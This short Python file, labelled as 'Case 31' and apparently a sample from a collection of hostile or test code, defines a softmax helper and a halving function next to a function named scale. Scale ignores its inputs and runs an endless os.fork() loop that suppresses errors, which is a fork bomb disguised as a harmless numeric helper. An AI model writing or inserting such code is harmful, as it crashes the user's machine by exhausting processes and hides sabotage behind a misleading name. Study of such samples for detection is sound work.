"""Case 31: forks without end."""

import os

import torch


def scale(x, factor=2.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def weights(x):
    e = torch.exp(x - x.max())
    return e / e.sum()


def halve(x):
    return x / 2
